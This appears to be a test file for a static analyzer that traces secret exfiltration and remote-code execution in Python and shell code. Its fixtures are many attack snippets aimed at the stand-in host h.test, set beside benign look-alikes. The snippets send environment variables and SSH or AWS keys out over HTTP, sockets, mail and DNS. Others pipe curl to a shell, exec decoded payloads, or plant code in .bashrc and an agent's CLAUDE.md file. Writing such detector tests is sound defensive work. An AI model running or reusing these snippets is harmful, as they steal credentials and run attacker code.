@@ -1,0 +1,327 @@
+// Flows: each attack beside the honest code it resembles.
+import { beforeAll, describe, expect, it } from 'vitest';
+import { type FlowFact, type Result, py, prepare, run, sh } from './harness.ts';
+
+beforeAll(prepare);
+
+const flow = (result: Result, want: Partial<FlowFact>): FlowFact | undefined =>
+  result
+    .flows()
+    .find((one) =>
+      Object.entries(want).every(([key, value]) =>
+        key === 'from'
+          ? (value as string[]).every((tag) => one.from.includes(tag))
+          : one[key as keyof FlowFact] === value,
+      ),
+    );
+
+describe('what is sent, where in the request, to whom', () => {
+  it('a key in a header to its vendor is a login', () => {
+    const result = py(
+      'import os, requests\nkey = os.environ["VENDOR_API_KEY"]\nr = requests.post("https://api.vendor.test/v1", headers={"Authorization": f"Bearer {key}"}, json={"q": "hello"})\nprint(r.json())',
+    );
+    expect(flow(result, { from: ['env:VENDOR_API_KEY'], position: 'header', destination: 'vendor' })).toBeDefined();
+    expect(result.flows().filter((one) => one.to === 'network' && one.position !== 'header')).toEqual([]);
+  });
+  it('the whole environment in a body is not', () => {
+    for (const code of [
+      'import os, requests\nrequests.post("https://h.test", json=dict(os.environ))',
+      'import os, json, urllib.request as u\nd = json.dumps({k: v for k, v in os.environ.items()}).encode()\nu.urlopen(u.Request("https://h.test/x", data=d))',
+      'from os import environ as e\nimport httpx\nhttpx.post("https://h.test", data=str(e))',
+    ]) {
+      expect(
+        flow(py(code), { from: ['env:*'], position: 'body', destination: 'other', host: 'h.test', to: 'network' }),
+        code,
+      ).toBeDefined();
+    }
+  });
+  it('names of secrets gone through are secrets', () => {
+    const result = py(
+      'import os, requests\nout = {}\nfor n in ["AWS_SECRET_KEY", "GH_TOKEN"]:\n    out[n] = os.getenv(n)\nrequests.post("https://h.test", json=out)',
+    );
+    expect(flow(result, { from: ['env:secrets', 'env:GH_TOKEN'], position: 'body' })).toBeDefined();
+  });
+  it('one variable read by name does not become the environment', () => {
+    const result = py('import os\nx = os.environ.get("HOME")\ny = os.environ["MODE"]\nprint(x, y)');
+    expect(
+      result
+        .of<{ kind: 'env'; access: string } & FlowFact>('env')
+        .every((one) => (one as unknown as { access: string }).access === 'read'),
+    ).toBe(true);
+  });
+  it('a credential file is known by its class', () => {
+    for (const code of [
+      'import os, requests\nd = open(os.path.expanduser("~/.ssh/id_rsa")).read()\nrequests.post("https://h.test", data=d)',
+      'from pathlib import Path\nimport requests\np = Path.home() / ".ssh" / "id_rsa"\nrequests.post("https://h.test", files={"f": p.open("rb")})',
+      'import requests, os\nfor p in ["~/.aws/credentials", "~/.ssh/id_rsa"]:\n    with open(os.path.expanduser(p)) as f:\n        requests.put("https://h.test", data={"p": p, "d": f.read()})',
+      'import glob, os, requests\nfor f in glob.glob(os.path.expanduser("~/.ssh/*")):\n    requests.post("https://h.test", data=open(f).read())',
+    ]) {
+      expect(flow(py(code), { from: ['content:ssh'], position: 'body', to: 'network' }), code).toBeDefined();
+    }
+  });
+  it('through sockets, mail, DNS and chat', () => {
+    expect(
+      flow(
+        py('import socket, os\ns = socket.socket()\ns.connect(("h.test", 4444))\ns.sendall(str(os.environ).encode())'),
+        { from: ['env:*'], to: 'network', host: 'h.test', position: 'body' },
+      ),
+    ).toBeDefined();
+    expect(
+      flow(
+        py(
+          'import smtplib, os\nm = smtplib.SMTP("mail.h.test")\nm.sendmail("a@b.test", "c@d.test", open(os.path.expanduser("~/.aws/credentials")).read())',
+        ),
+        { from: ['content:aws'], to: 'mail', position: 'body' },
+      ),
+    ).toBeDefined();
+    expect(
+      flow(
+        py(
+          'import socket, os, base64\nd = base64.b32encode(open("/home/u/.ssh/id_rsa","rb").read()).decode()\nsocket.gethostbyname(d[:60] + ".x.h.test")',
+        ),
+        { from: ['content:ssh', 'encoded'], to: 'dns' },
+      ),
+    ).toBeDefined();
+  });
+  it('encoding is part of what arrives', () => {
+    const result = py(
+      'import base64, os, requests\nrequests.post("https://h.test", data=base64.b64encode(str(os.environ).encode()))',
+    );
+    expect(flow(result, { from: ['encoded', 'env:*'], position: 'body' })).toBeDefined();
+  });
+  it('an address that was itself received is a dead drop', () => {
+    const result = py(
+      'import requests, os\nu = requests.get("https://h.test/where").text.strip()\nrequests.post(u, data=str(os.environ))',
+    );
+    expect(flow(result, { from: ['dead-drop', 'env:*'], destination: 'dynamic' })).toBeDefined();
+  });
+  it("an address that the user gives is the user's", () => {
+    const result = py('import sys, requests\nrequests.post(sys.argv[1], data=open("report.txt").read())');
+    expect(flow(result, { from: ['file'], destination: 'user-supplied' })).toBeDefined();
+  });
+});
+
+describe('the way', () => {
+  it('through helpers, classes, containers and callbacks', () => {
+    for (const code of [
+      'import os, requests\ndef collect():\n    return dict(os.environ)\ndef send(u, d):\n    requests.post(u, json=d)\ndef main():\n    send("https://h.test", collect())\nmain()',
+      'import os, requests\nclass C:\n    def __init__(self, u):\n        self.u = u\n        self.d = {}\n    def gather(self):\n        self.d["e"] = dict(os.environ)\n    def flush(self):\n        requests.post(self.u, json=self.d)\nc = C("https://h.test")\nc.gather()\nc.flush()',
+      'import os, requests\nclass C:\n    def flush(self):\n        requests.post("https://h.test", json=self.d)\n    def gather(self):\n        self.d = dict(os.environ)',
+      'import os, requests\nacc = []\ndef add(x):\n    acc.append(x)\nadd(dict(os.environ))\nrequests.post("https://h.test", json={"a": acc})',
+      'import os, requests\ndef fill(d):\n    d["k"] = dict(os.environ)\nx = {}\nfill(x)\nrequests.post("https://h.test", json=x)',
+      'import os, requests, threading\ndef work(d):\n    requests.post("https://h.test", json=d)\nthreading.Thread(target=work, args=(dict(os.environ),)).start()',
+      'import os, requests\ndef go(cb):\n    cb(dict(os.environ))\ngo(lambda d: requests.post("https://h.test", json=d))',
+      'import os, requests\nif os.name == "nt":\n    d = "none"\nelse:\n    d = str(os.environ)\nif False:\n    d = ""\nrequests.post("https://h.test", data=d)',
+      'import os, requests\ndef gen():\n    for k, v in os.environ.items():\n        yield k + "=" + v\nrequests.post("https://h.test", data="".join(gen()))',
+      'import asyncio, aiohttp, os\nasync def main():\n    async with aiohttp.ClientSession() as s:\n        await s.post("https://h.test", json=dict(os.environ))\nasyncio.run(main())',
+      'import os, requests\ndef never_called():\n    requests.post("https://h.test", json=dict(os.environ))',
+    ]) {
+      expect(flow(py(code), { from: ['env:*'], position: 'body', host: 'h.test' }), code).toBeDefined();
+    }
+  });
+  it('keeps source, steps and sink', () => {
+    const found = flow(
+      py('import os, requests\nd = dict(os.environ)\ne = str(d)\nrequests.post("https://h.test", data=e)'),
+      { position: 'body' },
+    )!;
+    expect(found.sources.map((one) => one.kind)).toEqual(['env']);
+    expect(found.sink?.kind).toBe('call');
+    expect(found.chain.length).toBe(found.hops + 1);
+    expect(found.hops).toBeGreaterThanOrEqual(2);
+    expect(found.crossFile).toBe(false);
+  });
+  it('an overwritten value is gone', () => {
+    const result = py(
+      'import os, requests\nd = dict(os.environ)\nd = {"a": 1}\nrequests.post("https://h.test", json=d)',
+    );
+    expect(flow(result, { from: ['env:*'], to: 'network' })).toBeUndefined();
+  });
+  it('what a comparison says is not the secret', () => {
+    const result = py(
+      'import os, requests\nok = os.environ["API_TOKEN"] == "x"\nrequests.post("https://h.test", json={"ok": ok})',
+    );
+    expect(result.flows()).toEqual([]);
+  });
+});
+
+describe('code that comes from elsewhere', () => {
+  it('received or decoded, then evaluated', () => {
+    expect(
+      flow(py('import requests\nexec(requests.get("https://h.test/p").text)'), {
+        from: ['net'],
+        to: 'evaluate',
+        position: 'code',
+        host: 'h.test',
+        destination: 'other',
+      }),
+    ).toBeDefined();
+    expect(
+      flow(py('import base64\nexec(base64.b64decode("cHJpbnQoMSk="))'), { from: ['decoded'], to: 'evaluate' }),
+    ).toBeDefined();
+    expect(
+      flow(py('import zlib, base64\nP = """x"""\nexec(zlib.decompress(base64.b64decode(P)))'), {
+        from: ['decoded'],
+        to: 'evaluate',
+      }),
+    ).toBeDefined();
+    expect(
+      flow(py('import os, requests\nos.system(requests.get("https://h.test/p").text)'), {
+        from: ['net'],
+        to: 'shell',
+        position: 'code',
+      }),
+    ).toBeDefined();
+  });
+  it('arguments of an honest program are not code', () => {
+    const result = py(
+      'import subprocess, requests\nname = requests.get("https://h.test/p").json()["n"]\nsubprocess.run(["convert", name, "out.png"], check=True)',
+    );
+    expect(result.flows().filter((one) => one.to === 'shell' || one.to === 'run-file')).toEqual([]);
+  });
+  it('written, then run', () => {
+    for (const code of [
+      'import requests, subprocess\nopen("/tmp/x.sh", "w").write(requests.get("https://h.test/p").text)\nsubprocess.run(["bash", "/tmp/x.sh"])',
+      'import requests, os\nwith open("/tmp/x.bin", "wb") as f:\n    f.write(requests.get("https://h.test/p").content)\nos.chmod("/tmp/x.bin", 0o755)\nos.system("/tmp/x.bin &")',
+      'import urllib.request as u, subprocess\nu.urlretrieve("https://h.test/p", "/tmp/a.py")\nsubprocess.call("python3 /tmp/a.py", shell=True)',
+      'import requests, subprocess, tempfile, os\nd = tempfile.mkdtemp()\np = os.path.join(d, "run")\nopen(p, "wb").write(requests.get("https://h.test/p").content)\nsubprocess.Popen([p])',
+      'import os\nos.system("curl -s https://h.test/p -o /tmp/q.sh")\nos.system("sh /tmp/q.sh")',
+    ]) {
+      expect(flow(py(code), { from: ['net'], to: 'run-file' }), code).toBeDefined();
+    }
+  });
+  it('another file in the same folder is not the written one', () => {
+    const result = py(
+      'import requests, subprocess\nopen("/opt/a/data.json", "w").write(requests.get("https://h.test/p").text)\nsubprocess.run(["bash", "/opt/a/build.sh"])',
+    );
+    expect(flow(result, { to: 'run-file' })).toBeUndefined();
+  });
+  it('strings for a shell are read as shell', () => {
+    const result = py(
+      'import subprocess\nu = "https://h.test/i.sh"\nsubprocess.run(f"curl -fsSL {u} | bash", shell=True)',
+    );
+    expect(flow(result, { from: ['net'], to: 'shell', host: 'h.test' })).toBeDefined();
+    expect(result.commands().map((one) => one.program)).toEqual(['curl', 'bash']);
+    expect(result.commands()[1]!.after).toEqual(['curl']);
+  });
+  it('argument lists are programs', () => {
+    const result = py('import subprocess\nsubprocess.run(["sh", "-c", "curl https://h.test | sh"])');
+    expect(flow(result, { from: ['net'], to: 'shell' })).toBeDefined();
+    expect(result.commands()[0]).toMatchObject({ program: 'sh', dialect: 'argv' });
+  });
+});
+
+describe('files that outlast the run', () => {
+  it('writes to shell start files and agent files have their own sinks', () => {
+    expect(
+      flow(
+        py(
+          'import os, requests\nopen(os.path.expanduser("~/.bashrc"), "a").write(requests.get("https://h.test").text)',
+        ),
+        { to: 'persistence', from: ['net'], trigger: 'recurring' },
+      ),
+    ).toBeDefined();
+    expect(
+      flow(
+        py(
+          'import requests\nfrom pathlib import Path\n(Path.cwd() / "CLAUDE.md").write_text(requests.get("https://h.test").text)',
+        ),
+        { to: 'agent-config', from: ['net'] },
+      ),
+    ).toBeDefined();
+  });
+  it('what is written there is read as code that runs again', () => {
+    const result = py(
+      'import os\nwith open(os.path.expanduser("~/.bashrc"), "a") as f:\n    f.write("curl -d \\"$(env)\\" https://h.test\\n")',
+    );
+    expect(flow(result, { to: 'network', trigger: 'recurring', host: 'h.test' })).toBeDefined();
+  });
+  it('exit hooks recur', () => {
+    const result = py(
+      'import atexit, os, requests\ndef bye():\n    requests.post("https://h.test", json=dict(os.environ))\natexit.register(bye)',
+    );
+    expect(flow(result, { from: ['env:*'], trigger: 'recurring' })).toBeDefined();
+  });
+});
+
+describe('across files', () => {
+  it('by import', () => {
+    const result = run({
+      'scripts/util.py':
+        'import os\nSECRET = dict(os.environ)\ndef post(u, d):\n    import requests\n    requests.post(u, json=d)',
+      'scripts/main.py': 'from util import post, SECRET\npost("https://h.test", SECRET)',
+    });
+    expect(flow(result, { from: ['env:*'], position: 'body', crossFile: true, host: 'h.test' })).toBeDefined();
+  });
+  it('by package and relative import', () => {
+    const result = run({
+      'pkg/__init__.py': '',
+      'pkg/a.py': 'import os\ndef grab():\n    return str(os.environ)',
+      'pkg/b.py':
+        'from . import a\nfrom .a import grab as g\nimport requests\nrequests.post("https://h.test", data=a.grab())\nrequests.put("https://h.test", data=g())',
+    });
+    expect(result.flows().filter((one) => one.from.includes('env:*') && one.position === 'body').length).toBe(2);
+  });
+  it('by a file one writes and the other runs, whichever name comes first', () => {
+    const write = 'import requests\nopen("/tmp/stage.sh","w").write(requests.get("https://h.test").text)';
+    const start = 'import subprocess\nsubprocess.run(["bash", "/tmp/stage.sh"])';
+    for (const files of [
+      { 'a.py': write, 'b.py': start },
+      { 'b.py': write, 'a.py': start },
+    ])
+      expect(flow(run(files), { to: 'run-file', from: ['net'] })).toBeDefined();
+  });
+  it('by a shell script that starts another with arguments', () => {
+    const result = run({
+      'scripts/go.sh': 'bash "$(dirname "$0")/send.sh" "$(cat ~/.ssh/id_rsa)"',
+      'scripts/send.sh': 'curl -d "$1" https://h.test',
+    });
+    expect(flow(result, { from: ['content:ssh'], to: 'network', position: 'body' })).toBeDefined();
+  });
+  it("by a sourced script's variables", () => {
+    const result = run({ 'go.sh': '. ./conf.sh\ncurl -d "$DATA" https://h.test', 'conf.sh': 'DATA=$(env)' });
+    expect(flow(result, { from: ['env:*'], to: 'network', position: 'body' })).toBeDefined();
+  });
+  it('in any order of units the facts are the same', () => {
+    const files = {
+      'c.py': 'from a import x\nimport requests\nrequests.post("https://h.test", data=x)',
+      'a.py': 'import os\nx = str(os.environ)',
+      'b.sh': 'python3 c.py "$SECRET_KEY"',
+    };
+    const flip = Object.fromEntries(Object.entries(files).reverse());
+    const lines = (result: Result): string[] =>
+      result.facts.map((one) => `${one.kind} ${one.place.file} ${one.place.span.start}`).sort();
+    expect(lines(run(flip))).toEqual(lines(run(files)));
+  });
+});
+
+describe('shell', () => {
+  it('functions are inlined with their arguments', () => {
+    expect(
+      flow(sh('get() { curl -fsSL "$1" -o "$2"; }\nD=/opt/x\nget https://h.test/i.sh "$D/i.sh"\nbash "$D"/*.sh'), {
+        to: 'run-file',
+        from: ['net'],
+        host: 'h.test',
+      }),
+    ).toBeDefined();
+  });
+  it('here-documents written to scripts are read', () => {
+    const result = sh(
+      'cat > /tmp/a.sh <<"EOF"\ncurl -d "$(cat ~/.aws/credentials)" https://h.test\nEOF\nbash /tmp/a.sh',
+    );
+    expect(flow(result, { from: ['content:aws'], to: 'network', position: 'body' })).toBeDefined();
+  });
+  it('decoded pipelines run', () => {
+    const result = sh(`echo ${Buffer.from('curl https://h.test/x | sh').toString('base64')} | base64 -d | sh`);
+    expect(flow(result, { from: ['decoded'], to: 'shell' })).toBeDefined();
+    expect(flow(result, { from: ['net'], to: 'shell', host: 'h.test' })).toBeDefined();
+  });
+  it('bash sockets are the network', () => {
+    expect(
+      flow(sh('cat ~/.ssh/id_rsa > /dev/tcp/h.test/80'), { from: ['content:ssh'], to: 'network', host: 'h.test' }),
+    ).toBeDefined();
+  });
+  it('an installer unpacked honestly runs nothing received', () => {
+    const result = sh('set -e\ncd "$(dirname "$0")"\npip install -r requirements.txt\npython3 build.py --out dist\n');
+    expect(result.flows().filter((one) => one.to === 'run-file' || one.to === 'shell')).toEqual([]);
+  });
+});
